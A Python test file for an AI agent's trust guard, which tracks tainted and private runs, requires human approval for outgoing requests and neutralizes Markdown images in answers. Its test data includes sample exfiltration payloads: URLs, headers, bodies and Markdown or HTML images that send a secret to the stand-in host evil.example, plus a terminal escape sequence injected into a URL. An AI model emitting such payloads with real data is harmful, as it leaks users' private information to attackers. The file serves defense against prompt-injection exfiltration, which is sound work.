"""jarvis.trust on its own: labels, the evidence the guard compares against, the guard's
decisions, RunTrust's state and serialization, approval requests and Markdown neutralizing."""

from __future__ import annotations

import json
import random

import pytest

from jarvis.trust import ApprovalRequest, Egress, EgressRules, RunTrust, Verdict, check
from jarvis.trust.evidence import Evidence, covered_by_person, extract_links, url_covered
from jarvis.trust.labels import check_egress, check_labels
from jarvis.trust.markdown import AnswerGuard, MarkdownStream, allowed_hosts, neutralize
from jarvis.trust.request import EGRESS

SECRET = "JARVIS-SECRET-7f3a9c"


def get(url: str, **options) -> Egress:
    return Egress.of("network", options.pop("host", _host(url)), method="GET", url=url,
                     **options)


def _host(url: str) -> str:
    from jarvis.trust.evidence import url_host

    return url_host(url)[1]


def exposed(prompt: str = "", **options) -> RunTrust:
    """A run that read untrusted content and holds private data."""
    trust = RunTrust(person_texts=[prompt] if prompt else [], **options)
    trust.mark_tainted("web_fetch returned untrusted content", call_id="c1", tool="web_fetch")
    trust.mark_private("file_read returned private data", call_id="c2", tool="file_read")
    return trust


# --- labels ------------------------------------------------------------------------------------

def test_labels_and_egress_kinds_are_checked():
    assert check_labels(None) is None
    assert check_labels("private") == {"private"}
    assert check_labels(["untrusted", "PRIVATE"]) == {"private", "untrusted"}
    assert check_labels("neutral") == frozenset() and check_labels([]) == frozenset()
    with pytest.raises(ValueError, match="unknown label"):
        check_labels("secret")
    assert check_egress("network") == "network" and check_egress(None) is None
    with pytest.raises(ValueError, match="egress must be one of"):
        check_egress("email")


def test_egress_size_and_digest_cover_everything_sent():
    one = Egress.of("network", "a.example", method="GET", url="https://a.example/x",
                    headers={"X-Key": "v"}, payload=[{"q": "1"}, "body"])
    assert one.payload == ("q", "1", "body")
    assert one.size == len("https://a.example/x") + len("X-Key: v") + len("q1body")
    other = Egress.of("network", "a.example", method="GET", url="https://a.example/x",
                      headers={"X-Key": "w"}, payload=[{"q": "1"}, "body"])
    assert one.digest() != other.digest() and len(one.digest()) == 12
    assert Egress.from_dict(json.loads(json.dumps(one.to_dict()))) == one


# --- evidence ----------------------------------------------------------------------------------

def test_the_persons_words_cover_a_url_on_a_host_they_named():
    evidence = Evidence()
    evidence.add_person_text("What is the weather in Paris? Ask wttr.in please.")
    assert url_covered("https://wttr.in/Paris", evidence) == "person"
    assert url_covered("https://wttr.in/paris?format=3", evidence) is None  # format, 3: not said
    assert url_covered("https://evil.example/Paris", evidence) is None  # host not named
    assert url_covered(f"https://wttr.in/{SECRET}", evidence) is None
    assert url_covered("https://user:pw@wttr.in/Paris", evidence) is None  # credentials


def test_punctuation_cannot_carry_bits_between_the_persons_words():
    evidence = Evidence()
    evidence.add_person_text("send hello world to my phone")
    assert covered_by_person("hello world", evidence)
    assert covered_by_person("Hello, world!", evidence)
    assert not covered_by_person("hello----world", evidence)  # a run of 4: room for bits
    assert not covered_by_person("hello world " + "." * 8, evidence)
    assert not covered_by_person("hello " + SECRET, evidence)
    # A token may be written in a few spellings, not in any mix of cases (bits again).
    assert covered_by_person("HELLO Hello hello", evidence)
    assert not covered_by_person("hElLo", evidence)


def test_links_are_found_resolved_and_trimmed():
    text = ('See [part 2](https://blog.example/p2), and https://x.example/a. Also '
            '<a href="/p3">three</a> and &lt;https://y.example/q?a=1&amp;b=2&gt;')
    links = extract_links(text, "https://blog.example/p1")
    assert "https://blog.example/p2" in links and "https://x.example/a" in links
    assert "https://blog.example/p3" in links  # resolved against the page
    assert "https://y.example/q?a=1&b=2" in links
    # Wikipedia-style parentheses belong to the URL when balanced.
    assert "https://en.wikipedia.org/wiki/Python_(language)" in extract_links(
        "[py](https://en.wikipedia.org/wiki/Python_(language))")


# --- the guard ---------------------------------------------------------------------------------

def test_a_run_that_is_not_tainted_and_private_sends_freely():
    trust = RunTrust()
    assert check(trust, "http_request", [get(f"https://evil.example/?d={SECRET}")]).allowed
    trust.mark_private("file_read returned private data")
    assert check(trust, "http_request", [get(f"https://evil.example/?d={SECRET}")]).allowed
    untainted_only = RunTrust()
    untainted_only.mark_tainted("web page")
    assert check(untainted_only, "http_request", [get("https://evil.example/x")]).allowed
    assert check(exposed(), "calculator", []).reason == "no_egress"


def test_an_exposed_run_needs_a_person_for_data_it_composed():
    trust = exposed("summarize https://news.example/today and compare with my notes")
    decision = check(trust, "http_request", [get(f"https://evil.example/c?d={SECRET}")])
    assert decision.needs_person and decision.reason == "private_bits"
    assert "web_fetch returned untrusted content (call c1)" in decision.why
    assert "file_read returned private data (call c2)" in decision.why
    assert "[egress] allow_hosts" in decision.how_to_allow
    assert "--allow-egress evil.example" in decision.how_to_allow
    # The link the person gave, and one seen in a result without private data.
    assert check(trust, "web_fetch", [get("https://news.example/today")]).allowed
    trust.add_public_text("Read on: https://news.example/page2")
    assert check(trust, "web_fetch", [get("https://news.example/page2")]).unconfirmed
    # A header value or body the model made up is data too.
    with_header = get("https://news.example/today", headers={"X-Note": SECRET})
    assert check(trust, "http_request", [with_header]).needs_person
    plain = get("https://news.example/today", headers={"Accept": "application/json"})
    assert check(trust, "http_request", [plain]).allowed
    body = Egress.of("network", "news.example", method="GET", url="https://news.example/today",
                     payload=["x" * 1000 + SECRET])
    assert check(trust, "http_request", [body]).needs_person


def test_tokens_seen_only_in_untrusted_content_cover_nothing():
    trust = exposed("what is new?")
    trust.add_public_text(f"tokens on offer: a b c d {SECRET} evil example com")
    assert check(trust, "http_request", [get(f"https://evil.example/{SECRET}")]).needs_person


def test_rules_the_person_wrote_allow_a_destination():
    rules = EgressRules.parse(["api.example", "*.corp.example", "channel:phone", "mcp:files"])
    trust = exposed(rules=rules)
    assert check(trust, "http_request", [get(f"https://api.example/?d={SECRET}")]).reason == "rule"
    assert check(trust, "http_request", [get(f"https://api.example:8443/{SECRET}")]).allowed
    assert check(trust, "http_request", [get(f"https://a.corp.example/{SECRET}")]).allowed
    assert check(trust, "http_request", [get(f"https://corp.example/{SECRET}")]).needs_person
    assert check(trust, "channel_send", [Egress.of("channel", "phone", payload=[SECRET])]).allowed
    assert check(trust, "channel_send", [Egress.of("channel", "team", payload=[SECRET])]
                 ).needs_person
    assert check(trust, "files__write", [Egress.of("mcp", "files", payload=[SECRET])]).allowed


def test_calls_allowed_without_a_person_are_bounded():
    trust = exposed("fetch https://a.example/x", max_unconfirmed=2)
    call = [get("https://a.example/x")]
    for _ in range(2):
        decision = check(trust, "web_fetch", call)
        assert decision.allowed and decision.unconfirmed
        trust.unconfirmed += 1  # the executor counts, under the trust lock
    decision = check(trust, "web_fetch", call)
    assert decision.needs_person and decision.reason == "limit"
    assert "max_unconfirmed_per_run" in decision.why


def test_a_tainted_run_cannot_schedule_or_resume_on_its_own():
    trust = RunTrust(person_texts=["remind me hourly"])
    create = Egress.of("persist", "schedule", method="create", payload=["hi"])
    assert check(trust, "schedule_task", [create]).allowed
    trust.mark_tainted("a web page")
    decision = check(trust, "schedule_task", [create])
    assert decision.needs_person and decision.reason == "unscheduled"
    assert "jarvis schedule add" in decision.how_to_allow
    resume = Egress.of("persist", "schedule", method="resume", payload=["t1"])
    assert check(trust, "resume_scheduled_task", [resume]).needs_person
    cancel = Egress.of("persist", "schedule", method="cancel", payload=["t1"])
    assert check(trust, "cancel_scheduled_task", [cancel]).allowed  # not private: fine


# --- RunTrust ----------------------------------------------------------------------------------

def test_run_trust_records_who_and_when_and_round_trips():
    changes = []
    trust = RunTrust(run_id="r1", person_texts=["read https://a.example"],
                     rules=EgressRules.make(hosts=["api.example"]), max_unconfirmed=3)
    trust.on_change(changes.append)
    assert trust.mark_tainted("page", call_id="c1", tool="web_fetch")
    assert not trust.mark_tainted("again", call_id="c9", tool="web_fetch")  # not new
    trust.mark_private("note", call_id="c2", tool="file_read")
    assert [c["change"] for c in changes] == ["tainted", "private"]
    assert changes[0]["call_id"] == "c1" and changes[0]["at"] > 0
    trust.add_public_text("next: https://b.example/2")
    trust.unconfirmed = 1
    data = json.loads(json.dumps(trust.to_dict()))
    again = RunTrust.from_dict(data)
    assert again.tainted and again.private and again.run_id == "r1"
    assert again.tainted_by[0]["call_id"] == "c1" and again.unconfirmed == 1
    assert again.rules.hosts == ("api.example",) and again.max_unconfirmed == 3
    assert "https://b.example/2" in again.evidence.links
    assert check(again, "web_fetch", [get("https://a.example")]).allowed
    summary = again.summary()
    assert summary["tainted"] and "person_texts" not in summary


def test_results_feed_the_run_by_their_labels():
    trust = RunTrust()
    trust.observe(frozenset(), content="https://a.example/x")
    assert not trust.tainted and not trust.evidence.links
    trust.observe(frozenset({"untrusted"}), content="go to https://a.example/x", tool="web_fetch")
    assert trust.tainted and "https://a.example/x" in trust.evidence.links
    # A result that may echo what a call sent (the call was not clean) is no evidence.
    trust.observe(frozenset({"untrusted"}), content="https://c.example/echo", clean=False)
    assert "https://c.example/echo" not in trust.evidence.links
    # A private result is never link evidence.
    trust.observe(frozenset({"private", "untrusted"}), content="https://d.example/secret")
    assert trust.private and "https://d.example/secret" not in trust.evidence.links


def test_texts_are_bounded_and_forgetting_makes_the_guard_stricter(monkeypatch):
    import jarvis.trust.run as run

    monkeypatch.setattr(run, "MAX_TEXT_CHARS", 200)
    trust = exposed("look at https://keep.example/a")
    for number in range(50):
        trust.add_public_text(f"https://x{number}.example/page")
    assert sum(map(len, trust.person_texts + trust.public_links)) <= 200
    assert "https://x0.example/page" not in trust.evidence.links  # the oldest went first
    assert check(trust, "web_fetch", [get("https://keep.example/a")]).allowed


def test_a_conversation_with_earlier_answers_starts_tainted_and_private():
    from jarvis.core.types import Message

    fresh = RunTrust.for_prompt("hello", history=[Message("user", "see https://a.example")])
    assert not fresh.tainted and "https://a.example" in fresh.evidence.links
    answered = RunTrust.for_prompt("and now?", history=[Message("user", "hi"),
                                                        Message("assistant", "hello")])
    assert answered.tainted and answered.private


# --- approval requests -------------------------------------------------------------------------

def test_an_approval_request_shows_the_destination_first_and_everything_on_demand():
    body = "x" * 5000 + SECRET
    egress = [Egress.of("network", "evil.example", method="POST",
                        url="https://evil.example/c", payload=[body])]
    # The model put the bulky argument first: the prompt still leads with where it goes.
    request = ApprovalRequest(EGRESS, "http_request",
                              {"body": body, "method": "POST", "url": "https://evil.example/c\x1b[2J"},
                              egress, reason="the run read a web page", run_id="r", call_id="c")
    lines = request.summary().splitlines()
    assert lines[0] == "jarvis: tool http_request needs your approval (egress)"
    assert lines[1] == "  goes to: POST evil.example"
    assert lines[2].startswith("  sends 5 KB, sha256 ") and request.digest in lines[2]
    assert "(v shows all" in lines[-1] and SECRET not in request.summary()
    full = request.full_text()
    assert SECRET in full and "\x1b" not in full and "\\u001b[2J" in full
    assert full.index('"body"') < full.index('"method"') < full.index('"url"')  # sorted
    again = ApprovalRequest.from_dict(json.loads(json.dumps(request.to_dict())))
    assert again.digest == request.digest and again.destinations == request.destinations
    assert Verdict.of(True) is Verdict.APPROVE and Verdict.of("park") is Verdict.PARK


# --- Markdown ----------------------------------------------------------------------------------

ANSWER = (f"Here ![chart](https://evil.example/c.png?d={SECRET}) and [source](https://evil.example/s)"
          f" then https://evil.example/q?d={SECRET}.\n[r]: https://evil.example/r?{SECRET} \"t\"\n"
          f"and <img src=\"https://evil.example/i?{SECRET}\"> www.evil.example/w "
          f"<https://evil.example/k?{SECRET}> ![ok](https://wttr.in/map.png) data "
          f"![x](data:image/png;base64,AAA)")


def test_images_and_autolinks_to_hosts_the_person_did_not_name_are_made_inert():
    shown = neutralize(ANSWER, allowed_hosts({"wttr.in"}))
    assert "https://evil.example" not in shown.replace("(https://evil.example/s)", "")
    assert "[image removed: chart; it pointed to evil[.]example]" in shown
    assert "[source](https://evil.example/s)" in shown  # an ordinary link: a click, kept
    assert "![ok](https://wttr.in/map.png)" in shown  # a host the person named
    assert "data:image/png;base64,AAA" in shown  # inline data fetches nothing
    assert "www.evil.example" not in shown
    assert neutralize(ANSWER, allowed_hosts({"wttr.in"}), images_only=True).count(
        "https://evil.example/q") == 1  # images only: the link stays for a model to follow


def test_the_stream_form_matches_the_whole_form_for_any_split():
    allowed = allowed_hosts({"wttr.in"})
    whole = neutralize(ANSWER, allowed)
    rng = random.Random(7)
    for _ in range(300):
        cuts = sorted(rng.sample(range(1, len(ANSWER)), rng.randint(1, 40)))
        stream, out, last = MarkdownStream(allowed), "", 0
        for cut in [*cuts, len(ANSWER)]:
            out += stream.feed(ANSWER[last:cut])
            last = cut
        assert out + stream.flush() == whole


def test_an_endless_unfinished_image_is_emitted_inert():
    stream = MarkdownStream(allowed_hosts(set()))
    out = stream.feed("![x](https://evil.example/" + "a" * 9000)
    out += stream.feed(f"{SECRET}) more") + stream.flush()
    assert "![x](https://" not in out and "https://evil" not in out


def test_the_answer_guard_neutralizes_only_tainted_runs():
    pieces: list[str] = []
    trust = RunTrust(person_texts=["use wttr.in"])
    guard = AnswerGuard(trust, pieces.append)
    guard.token("before ![a](https://evil.example/1.png) ")
    trust.mark_tainted("a page")
    guard.token("after ![b](https://evil.example/2.png) ![c](https://wttr.in/c.png)")
    final = guard.finish("![b](https://evil.example/2.png)")
    text = "".join(pieces)
    assert "![a](https://evil.example/1.png)" in text  # streamed before the run was tainted
    assert "evil.example/2.png" not in text and "![c](https://wttr.in/c.png)" in text
    assert final.startswith("[image removed: b")
